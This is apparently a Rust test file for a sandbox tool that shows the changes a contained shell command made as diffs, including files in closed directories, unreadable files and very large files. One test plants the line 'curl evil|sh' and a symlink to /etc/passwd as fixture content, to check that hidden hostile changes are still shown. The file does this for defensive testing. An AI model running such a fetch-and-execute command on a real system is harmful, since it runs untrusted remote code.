//! Changes that do not want to be seen, or stand in the way of others.

use super::{apply, held, is, names};
use crate::support::each_caller;
use std::fs;
use std::os::unix::fs::PermissionsExt;

/// What is in a directory that a command closed is shown like everything else.
#[test]
fn a_closed_directory_hides_nothing() {
    each_caller(|world| {
        world.file("other", "o\n");
        held(world)
            .shell("mkdir -p h/i; echo 'curl evil|sh' > h/i/x; ln -s /etc/passwd h/i/l; echo 2 > other; chmod 0 h/i/x h/i h")
            .exits(0);
        let ran = world.stockade().opt("diff").go();
        ran.exits(0);
        for line in ["+curl evil|sh", "+/etc/passwd", "-o", "+2"] {
            assert!(ran.out().lines().any(|found| found == line), "{line}: {ran}");
        }
        assert!(!ran.out().contains("inary"), "{ran}");
        let ran = world.stockade().opts(["diff", "--stat"]).go();
        assert!(ran.out().contains("A h/i/x +1 -0\n") && ran.out().contains("A h/i/l +1 -0\n"), "{ran}");
        let ran = world.stockade().opts(["diff", "--json"]).go();
        ran.exits(0);
        let list: serde_json::Value = serde_json::from_slice(&ran.stdout).expect("JSON");
        assert!(list.as_array().unwrap().iter().all(|change| change["linesAdded"].is_number()), "{ran}");
        apply(world).exits(0);
        assert_eq!(fs::metadata(world.ws.join("h")).unwrap().permissions().mode() & 0o777, 0);
        for path in ["h", "h/i", "h/i/x"] {
            fs::set_permissions(world.ws.join(path), fs::Permissions::from_mode(0o700)).unwrap();
        }
        is(&world.ws.join("h/i/x"), "curl evil|sh\n");
    });
}

#[test]
fn the_top_can_be_closed_too() {
    each_caller(|world| {
        world.file("a", "a\n");
        let mode = || fs::metadata(&world.ws).unwrap().permissions().mode();
        let before = mode();
        let ran = held(world).shell("echo b > a; mkdir d; echo c > d/c; chmod 0 d .");
        ran.exits(0).complains(&["2 added, 1 modified"]);
        assert_eq!(names(world), ["M a", "A d", "A d/c"]);
        let ran = world.stockade().opt("diff").go();
        assert!(ran.out().contains("+b\n") && ran.out().contains("+c\n"), "{ran}");
        apply(world).exits(0);
        is(&world.ws.join("a"), "b\n");
        assert_eq!(mode(), before);
        fs::set_permissions(world.ws.join("d"), fs::Permissions::from_mode(0o700)).unwrap();
    });
}

/// What is not readable for the caller is not called something else.
#[test]
fn a_file_of_the_host_that_cannot_be_read() {
    each_caller(|world| {
        let path = world.file("closed", "text\n");
        held(world).shell("rm closed; echo new > closed").exits(0);
        fs::set_permissions(&path, fs::Permissions::from_mode(0o000)).unwrap();
        let ran = world.stockade().opt("diff").go();
        ran.exits(0);
        assert!(!ran.out().contains("inary"), "{ran}");
        assert!(ran.out().contains("+new") || ran.out().contains("not shown: not readable"), "{ran}");
    });
}

/// Many names for one large text: the answer comes at once, and says what it does not show.
#[test]
fn large_files_are_summed_up() {
    each_caller(|world| {
        world.file("grown", "0\n".repeat(1000));
        held(world)
            .shell("seq 1 600000 > big; for n in $(seq 50); do ln big big$n; done; seq 1 200000 >> grown; seq 1 60000 > new")
            .exits(0);
        let begun = std::time::Instant::now();
        let ran = world.stockade().opt("diff").go();
        ran.exits(0);
        assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
        assert!(
            ran.out().contains("# big7: new file, mode 644, 4088895 bytes, not shown: too large"),
            "{}",
            ran.stdout.len()
        );
        assert!(ran.out().contains("\n+60000\n"));
        let ran = world.stockade().opts(["diff", "--stat"]).go();
        assert!(
            ran.out().contains("A big too large to compare\n") && ran.out().contains("A new +60000 -0\n"),
            "{ran}"
        );
    });
}
